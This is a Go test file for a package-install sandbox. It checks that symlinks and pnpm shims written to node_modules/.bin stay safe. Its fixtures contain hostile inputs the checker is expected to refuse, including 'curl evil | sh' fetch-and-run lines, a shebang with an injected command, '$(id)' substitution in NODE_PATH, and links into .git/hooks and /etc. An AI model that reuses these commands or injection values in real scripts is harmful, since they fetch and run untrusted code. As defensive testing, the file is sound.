package install

import (
	"errors"
	"io/fs"
	"strings"
	"testing"

	"github.com/phylum-box/phylum-box/precheck/policy"
	"github.com/phylum-box/phylum-box/rootfs"
)

// memView is a run's view of a project: files and symlinks by project-relative path.
type memView struct {
	files map[string]string
	links map[string]string
}

func (v memView) ReadFile(rel string) ([]byte, error) {
	if s, ok := v.files[rel]; ok {
		return []byte(s), nil
	}
	return nil, fs.ErrNotExist
}

func (v memView) Readlink(rel string) (string, error) {
	if t, ok := v.links[rel]; ok {
		return t, nil
	}
	return "", errors.New("not a symlink")
}

const testRoot = "/home/dev/proj"

// pnpmSemverShim is the shim pnpm 10 writes for semver's bin (NODE_PATH moved to testRoot).
const pnpmSemverShim = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")

case ` + "`uname`" + ` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=` + "`cygpath -w \"$basedir\"`" + `
        fi
    ;;
esac

if [ -z "$NODE_PATH" ]; then
  export NODE_PATH="/home/dev/proj/node_modules/.pnpm/semver@7.6.0/node_modules/semver/node_modules:/home/dev/proj/node_modules/.pnpm/node_modules"
else
  export NODE_PATH="/home/dev/proj/node_modules/.pnpm/semver@7.6.0/node_modules/semver/node_modules:/home/dev/proj/node_modules/.pnpm/node_modules:$NODE_PATH"
fi
if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../semver/bin/semver.js" "$@"
else
  exec node  "$basedir/../semver/bin/semver.js" "$@"
fi
`

// baseView: semver installed by npm, semver installed by pnpm (.pnpm store + link),
// the npm package `node` (bin node), a scoped package, a workspace package and a
// plain project dir.
func baseView() memView {
	return memView{
		files: map[string]string{
			"package.json":                                                      `{"name":"app","workspaces":["packages/*"]}`,
			"src/index.js":                                                      "x",
			"packages/ws/package.json":                                          `{"name":"ws","version":"0.1.0","bin":{"ws-tool":"cli.js"}}`,
			"node_modules/semver/package.json":                                  `{"name":"semver","version":"7.6.0","bin":{"semver":"bin/semver.js"}}`,
			"node_modules/semver/bin/semver.js":                                 "#!/usr/bin/env node\n",
			"node_modules/node/package.json":                                    `{"name":"node","version":"20.1.0","bin":{"node":"bin/node"}}`,
			"node_modules/node/bin/node":                                        "#!/usr/bin/env node\n",
			"node_modules/@scope/tool/package.json":                             `{"name":"@scope/tool","version":"2.0.0","bin":"./dist/../bin/tool.js"}`,
			"node_modules/@scope/tool/bin/tool.js":                              "#!/usr/bin/env node\n",
			"node_modules/dirbin/package.json":                                  `{"name":"dirbin","version":"1.0.0","directories":{"bin":"./scripts"}}`,
			"node_modules/dirbin/scripts/dirbin-a":                              "#!/bin/sh\n",
			"node_modules/evil/package.json":                                    `{"name":"evil","version":"6.6.6","bin":{"evil":"cli.js"}}`,
			"node_modules/evil/cli.js":                                          "#!/usr/bin/env node\n",
			"node_modules/evil/payload.js":                                      "#!/usr/bin/env node\n",
			"node_modules/.pnpm/semver@7.6.0/node_modules/semver/package.json":  `{"name":"semver","version":"7.6.0","bin":{"semver":"bin/semver.js"}}`,
			"node_modules/.pnpm/semver@7.6.0/node_modules/semver/bin/semver.js": "#!/usr/bin/env node\n",
			"node_modules/.pnpm/sh@1.0.0/node_modules/shtool/package.json":      `{"name":"shtool","version":"1.0.0","bin":{"shtool":"run.sh","plain":"plain"}}`,
			"node_modules/.pnpm/sh@1.0.0/node_modules/shtool/run.sh":            "echo hi\n",
			"node_modules/.pnpm/sh@1.0.0/node_modules/shtool/plain":             "\ufeff  #!/bin/bash -e\r\necho hi\n",
		},
		links: map[string]string{
			"node_modules/ws":            "../packages/ws",
			"node_modules/pnpm-semver":   ".pnpm/semver@7.6.0/node_modules/semver",
			"node_modules/shtool":        ".pnpm/sh@1.0.0/node_modules/shtool",
			"node_modules/.pnpm/loop/a":  "b",
			"node_modules/.pnpm/loop/b":  "a",
			"node_modules/.pnpm/escape":  "../../../x",
			"node_modules/.pnpm/abs-dir": "/etc",
		},
	}
}

func link(p, target string) rootfs.Change {
	return rootfs.Change{Path: p, Kind: rootfs.Added, Type: rootfs.TypeSymlink, Linkname: target}
}

func file(p string) rootfs.Change {
	return rootfs.Change{Path: p, Kind: rootfs.Added, Type: rootfs.TypeRegular, Perm: 0o755}
}

// shimFor is pnpmSemverShim aimed at another package: node_modules/<pkg>, bin file.
func shimFor(pkg, file string) string {
	s := strings.ReplaceAll(pnpmSemverShim, "../semver/bin/semver.js", "../"+pkg+"/"+file)
	return s
}

func TestLinkRules(t *testing.T) {
	nodeOutputs := []string{"node_modules/", "package.json", "package-lock.json", "packages/ws/node_modules/", "packages/ws/package.json"}
	allowNode, err := policy.Parse("p.yaml", []byte(`allow_bins: ["node@20.1.0"]`))
	if err != nil {
		t.Fatal(err)
	}
	allowOtherNode, err := policy.Parse("p.yaml", []byte(`allow_bins: ["node@18.0.0", "semver"]`))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		manager string
		outputs []string
		policy  *policy.Policy
		files   map[string]string // added to the view (and to the changes when under .bin)
		changes []rootfs.Change
		want    []string // per refusal, in order, its substrings joined by " && "; none = accepted
	}{
		{name: "npm bin link", changes: []rootfs.Change{link("node_modules/.bin/semver", "../semver/bin/semver.js")}},
		{name: "scoped string bin, name without the scope, cleaned file", changes: []rootfs.Change{link("node_modules/.bin/tool", "../@scope/tool/bin/tool.js")}},
		{name: "workspace bin through the workspace link", changes: []rootfs.Change{link("node_modules/.bin/ws-tool", "../ws/cli.js")}},
		{name: "workspace bin linked straight into the workspace (yarn)", changes: []rootfs.Change{link("node_modules/.bin/ws-tool", "../../packages/ws/cli.js")}},
		{
			name: "workspace bin whose package.json the run wrote",
			changes: []rootfs.Change{link("node_modules/.bin/ws-tool", "../../packages/ws/cli.js"),
				{Path: "packages/ws/package.json", Kind: rootfs.Modified, Type: rootfs.TypeRegular, Prev: rootfs.TypeRegular}},
			want: []string{"in no package of the project"},
		},
		{
			name:    "a bin in the root package is no bin",
			files:   map[string]string{"package.json": `{"name":"app","version":"1.0.0","bin":{"x":"src/index.js"}}`},
			changes: []rootfs.Change{link("node_modules/.bin/x", "../../src/index.js")},
			want:    []string{"in no package of the project"},
		},
		{name: "nested .bin", changes: []rootfs.Change{link("node_modules/evil/node_modules/.bin/semver", "../../../semver/bin/semver.js")}},
		{name: "directories.bin", changes: []rootfs.Change{link("node_modules/.bin/dirbin-a", "../dirbin/scripts/dirbin-a")}},
		{name: "deleting a bin is fine", changes: []rootfs.Change{{Path: "node_modules/.bin/node", Kind: rootfs.Deleted, Prev: rootfs.TypeSymlink}}},
		{
			name:    "a script's own file named node",
			files:   map[string]string{"node_modules/.bin/node": "#!/bin/sh\ncurl evil | sh\n"},
			changes: []rootfs.Change{file("node_modules/.bin/node")},
			want:    []string{"neither a link nor the shim pnpm writes && would shadow the system command node"},
		},
		{
			name:    "undeclared bin name",
			changes: []rootfs.Change{link("node_modules/.bin/git", "../evil/cli.js")},
			want:    []string{`not a bin that evil@6.6.6 declares (its package.json declares only evil) && system command git`},
		},
		{
			name:    "declared name, other file",
			changes: []rootfs.Change{link("node_modules/.bin/evil", "../evil/payload.js")},
			want:    []string{`links to payload.js in evil@6.6.6, but evil@6.6.6 declares bin "evil" as cli.js`},
		},
		{
			name:    "bin link outside node_modules",
			changes: []rootfs.Change{link("node_modules/.bin/x", "../../src/index.js")},
			want:    []string{"outside npm's output dirs"},
		},
		{
			name:    "bin link to an absolute path",
			changes: []rootfs.Change{link("node_modules/.bin/x", "/usr/bin/env")},
			want:    []string{"absolute path"},
		},
		{
			name:    "node's own bin node, refused by default",
			changes: []rootfs.Change{link("node_modules/.bin/node", "../node/bin/node")},
			want:    []string{`bin "node" of node@20.1.0 shadows the system command node && allow_bins: ["node@20.1.0"]`},
		},
		{name: "node's bin node, allowed by the policy", policy: allowNode, changes: []rootfs.Change{link("node_modules/.bin/node", "../node/bin/node")}},
		{
			name:    "allow_bins for another version",
			policy:  allowOtherNode,
			changes: []rootfs.Change{link("node_modules/.bin/node", "../node/bin/node")},
			want:    []string{"shadows the system command node"},
		},
		{
			name:    "a .bin dir that is a symlink",
			changes: []rootfs.Change{link("node_modules/.bin", "evil")},
			want:    []string{"a .bin dir that is a symlink"},
		},
		{
			name:    "a dir inside .bin",
			changes: []rootfs.Change{{Path: "node_modules/.bin/x", Kind: rootfs.Added, Type: rootfs.TypeDir, Perm: 0o755}},
			want:    []string{"a dir in node_modules/.bin"},
		},
		{
			name:    "link into .git",
			changes: []rootfs.Change{link("node_modules/evil-git", "../.git")},
			want:    []string{"symlink to ../.git (.git) points outside npm's output dirs"},
		},
		{
			name:    "link into the sources",
			changes: []rootfs.Change{link("node_modules/src", "../src")},
			want:    []string{"points outside npm's output dirs"},
		},
		{
			name:    "deep link into .git hooks",
			changes: []rootfs.Change{link("node_modules/a/hooks", "../../.git/hooks")},
			want:    []string{"points outside"},
		},
		{name: "workspace link", changes: []rootfs.Change{link("node_modules/ws", "../packages/ws")}},
		{
			name: "workspace link, the workspace dir got a node_modules",
			changes: []rootfs.Change{{Path: "packages/ws", Kind: rootfs.Modified, Type: rootfs.TypeDir, Prev: rootfs.TypeDir},
				link("node_modules/ws", "../packages/ws")},
		},
		{
			name: "link to a package dir the run replaced",
			changes: []rootfs.Change{{Path: "packages/ws", Kind: rootfs.Modified, Type: rootfs.TypeDir, Prev: rootfs.TypeDir, Opaque: true},
				link("node_modules/ws", "../packages/ws")},
			want: []string{"points outside"},
		},
		{name: "link inside node_modules", changes: []rootfs.Change{link("node_modules/a/node_modules/b", "../../b")}},
		{
			name:  "link to a package whose package.json the run wrote",
			files: map[string]string{"vendor/lib/package.json": `{"name":"lib"}`},
			changes: []rootfs.Change{link("node_modules/lib", "../vendor/lib"),
				{Path: "vendor/lib/package.json", Kind: rootfs.Modified, Type: rootfs.TypeRegular, Prev: rootfs.TypeRegular}},
			want: []string{"points outside"},
		},
		{
			// npm install X -w ws in a new workspace: the command adds X to ws's
			// package.json and links ws for the first time.
			name: "link to a workspace whose package.json the command changed",
			changes: []rootfs.Change{link("node_modules/ws", "../packages/ws"),
				{Path: "packages/ws/package.json", Kind: rootfs.Modified, Type: rootfs.TypeRegular, Prev: rootfs.TypeRegular}},
		},
		{
			name:  "link to a dir the run made a package of, outside the outputs (refused there, so not on the host)",
			files: map[string]string{"src/package.json": `{"name":"src"}`},
			changes: []rootfs.Change{{Path: "src/package.json", Kind: rootfs.Added, Type: rootfs.TypeRegular},
				link("node_modules/src", "../src")},
			want: []string{"points outside"},
		},
		{
			name:    "package link to the project root",
			changes: []rootfs.Change{link("node_modules/app", "..")},
			want:    []string{"points outside"},
		},
		{
			name:    "a non-package entry linking to a project package",
			changes: []rootfs.Change{link("node_modules/a/lib", "../../packages/ws")},
			want:    []string{"points outside"},
		},
		{
			name:    "a node_modules dir that is a symlink",
			changes: []rootfs.Change{link("node_modules/a/node_modules", "../evil")},
			want:    []string{"a node_modules dir that is a symlink"},
		},
		{
			name:    "pnpm shim",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/semver": shimFor("pnpm-semver", "bin/semver.js")},
			changes: []rootfs.Change{file("node_modules/.bin/semver")},
		},
		{
			name:    "pnpm shim for a #!-less .sh file and a #! with arguments after a BOM",
			manager: "pnpm",
			files: map[string]string{
				"node_modules/.bin/shtool": strings.Replace(pnpmSemverShim[:strings.Index(pnpmSemverShim, "if [ -x")], "semver@7.6.0/node_modules/semver", "sh@1.0.0/node_modules/shtool", 2) +
					"if [ -x \"$basedir/sh\" ]; then\n  exec \"$basedir/sh\"  \"$basedir/../shtool/run.sh\" \"$@\"\nelse\n  exec sh  \"$basedir/../shtool/run.sh\" \"$@\"\nfi\n",
				"node_modules/.bin/plain": pnpmShimHeader +
					"if [ -x \"$basedir//bin/bash\" ]; then\n  exec \"$basedir//bin/bash\"  -e \"$basedir/../shtool/plain\" \"$@\"\nelse\n  exec /bin/bash  -e \"$basedir/../shtool/plain\" \"$@\"\nfi\n",
			},
			changes: []rootfs.Change{file("node_modules/.bin/shtool"), file("node_modules/.bin/plain")},
		},
		{
			name:    "pnpm shim that runs another program",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/semver": strings.ReplaceAll(shimFor("pnpm-semver", "bin/semver.js"), "exec node ", "exec sh -c 'curl x|sh' ")},
			changes: []rootfs.Change{file("node_modules/.bin/semver")},
			want:    []string{"not the shim pnpm writes"},
		},
		{
			name:    "pnpm shim with commands added",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/semver": shimFor("pnpm-semver", "bin/semver.js") + "curl evil | sh\n"},
			changes: []rootfs.Change{file("node_modules/.bin/semver")},
			want:    []string{"not the shim pnpm writes"},
		},
		{
			name:    "pnpm shim with NODE_PATH outside the project",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/semver": strings.ReplaceAll(shimFor("pnpm-semver", "bin/semver.js"), "/home/dev/proj/node_modules/.pnpm/node_modules", "/tmp/evil")},
			changes: []rootfs.Change{file("node_modules/.bin/semver")},
			want:    []string{"NODE_PATH names /tmp/evil"},
		},
		{
			name:    "pnpm shim with a NODE_PATH that expands",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/semver": strings.ReplaceAll(shimFor("pnpm-semver", "bin/semver.js"), "/home/dev/proj/node_modules/.pnpm/node_modules", "/home/dev/proj/node_modules/$(id)")},
			changes: []rootfs.Change{file("node_modules/.bin/semver")},
			want:    []string{"NODE_PATH names /home/dev/proj/node_modules/$(id)"},
		},
		{
			name:    "pnpm shim for a file whose #! would inject",
			manager: "pnpm",
			files: map[string]string{
				"node_modules/.bin/evil":   shimFor("evil", "cli.js"),
				"node_modules/evil/cli.js": "#!/usr/bin/env node;curl${IFS}x\n",
			},
			changes: []rootfs.Change{file("node_modules/.bin/evil")},
			want:    []string{"is not one a shim may run safely"},
		},
		{
			name:    "pnpm shim through a symlink loop",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/x": strings.ReplaceAll(pnpmSemverShim, "../semver/bin/semver.js", "../.pnpm/loop/a/node_modules/x/bin.js")},
			changes: []rootfs.Change{file("node_modules/.bin/x")},
			want:    []string{"too many levels of symlinks"},
		},
		{
			name:    "pnpm shim through a link out of the project",
			manager: "pnpm",
			files:   map[string]string{"node_modules/.bin/x": strings.ReplaceAll(pnpmSemverShim, "../semver/bin/semver.js", "../.pnpm/abs-dir/node_modules/x/bin.js")},
			changes: []rootfs.Change{file("node_modules/.bin/x")},
			want:    []string{"symlink to the absolute path /etc"},
		},
		{
			name:    "pip venv link inside the venv",
			manager: "pip", outputs: []string{".venv/"},
			changes: []rootfs.Change{link(".venv/lib64", "lib")},
		},
		{
			name:    "pip venv link into the sources",
			manager: "pip", outputs: []string{".venv/"},
			changes: []rootfs.Change{link(".venv/lib/src", "../../src")},
			want:    []string{"points outside pip's output dirs (.venv)"},
		},
		{
			name:    "only node managers check .bin",
			manager: "cargo", outputs: []string{"target/"},
			changes: []rootfs.Change{link("target/node_modules/.bin/node", "../x")},
		},
		{
			name:    "every refusal is listed",
			files:   map[string]string{"node_modules/.bin/node": "#!/bin/sh\n"},
			changes: []rootfs.Change{file("node_modules/.bin/node"), link("node_modules/evil-git", "../.git")},
			want:    []string{"shadow the system command node", "symlink to ../.git"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := baseView()
			for p, s := range tt.files {
				v.files[p] = s
			}
			manager, outputs := tt.manager, tt.outputs
			if manager == "" {
				manager = "npm"
			}
			if outputs == nil {
				outputs = nodeOutputs
			}
			eco := "npm"
			if manager == "pip" {
				eco = "PyPI"
			} else if manager == "cargo" {
				eco = "crates.io"
			}
			pol := tt.policy
			if pol == nil {
				pol = policy.Default()
			}
			lr := &linkRules{root: testRoot, outputDirs: outputDirs(outputs), node: eco == "npm", manager: manager, ecosystem: eco, policy: pol, view: v}
			var allowed []rootfs.Change
			for _, c := range tt.changes {
				if underAny(c.Path, lr.outputDirs...) {
					allowed = append(allowed, c)
				}
			}
			got := lr.check(allowed, tt.changes)
			if len(got) != len(tt.want) {
				t.Fatalf("refusals = %v, want %d", got, len(tt.want))
			}
			for i, w := range tt.want {
				for _, sub := range strings.Split(w, " && ") {
					if !strings.Contains(got[i].Reason, sub) {
						t.Errorf("refusal %d = %q, want it to say %q", i, got[i].Reason, sub)
					}
				}
			}
		})
	}
}

func TestParseBinManifest(t *testing.T) {
	tests := []struct {
		json string
		want map[string]string
	}{
		{`{"name":"@s/pkg","bin":"cli.js"}`, map[string]string{"pkg": "cli.js"}},
		{`{"name":"p","bin":{"../../node":"../../evil.js","a\\b":"x\\y.js","c:d":"./z.js","..":"n.js","e":""}}`,
			map[string]string{"node": "evil.js", "b": "x/y.js", "d": "z.js"}},
		{`{"name":"p","bin":{"a":1,"b":"b.js"}}`, map[string]string{"b": "b.js"}},
		{`{"name":"p","bin":["a"]}`, map[string]string{}},
		{`{"name":"p"}`, map[string]string{}},
	}
	for _, tt := range tests {
		m, err := parseBinManifest([]byte(tt.json))
		if err != nil {
			t.Fatalf("%s: %v", tt.json, err)
		}
		if len(m.bins) != len(tt.want) {
			t.Errorf("%s: bins = %v, want %v", tt.json, m.bins, tt.want)
			continue
		}
		for k, v := range tt.want {
			if m.bins[k] != v {
				t.Errorf("%s: bins = %v, want %v", tt.json, m.bins, tt.want)
			}
		}
	}
}

// A pnpm shim sets no PATH (pnpm's link-bins never writes one) and a NODE_PATH of
// node_modules directories in the outputs only: a package's script that gives
// another package's shim its own PATH dir (its node, its git) is refused.
func TestPnpmShimPaths(t *testing.T) {
	lr := &linkRules{root: "/p", outputDirs: []string{"node_modules"}, manager: "pnpm"}
	nodePath := func(v string) string {
		return "if [ -z \"$NODE_PATH\" ]; then\n  export NODE_PATH=\"" + v + "\"\nelse\n  export NODE_PATH=\"" + v + ":$NODE_PATH\"\nfi\n"
	}
	run := "if [ -x \"$basedir/node\" ]; then\n  exec \"$basedir/node\"  \"$basedir/../good/bin/good.js\" \"$@\"\nelse\n  exec node  \"$basedir/../good/bin/good.js\" \"$@\"\nfi\n"
	for _, tc := range []struct {
		name, text, refused string
	}{
		{"pnpm's own", pnpmShimHeader + nodePath("/p/node_modules/.pnpm/good@1.0.0/node_modules/good/node_modules:/p/node_modules/.pnpm/node_modules") + run, ""},
		{"a PATH dir", pnpmShimHeader + "export PATH=\"/p/node_modules/.pnpm/evil@1.0.0/node_modules/evil/hj:$PATH\"\n" + nodePath("/p/node_modules/.pnpm/node_modules") + run, "first in PATH"},
		{"a NODE_PATH dir that is not node_modules", pnpmShimHeader + nodePath("/p/node_modules/.pnpm/evil@1.0.0/node_modules/evil/lib") + run, "not a node_modules directory"},
		{"a NODE_PATH outside the outputs", pnpmShimHeader + nodePath("/p/src/node_modules") + run, "not a node_modules directory"},
	} {
		s := parsePnpmShim(tc.text)
		if s == nil {
			t.Fatalf("%s: not parsed", tc.name)
		}
		got := lr.shimPaths(s)
		if tc.refused == "" && got != "" || tc.refused != "" && !strings.Contains(got, tc.refused) {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.refused)
		}
	}
}
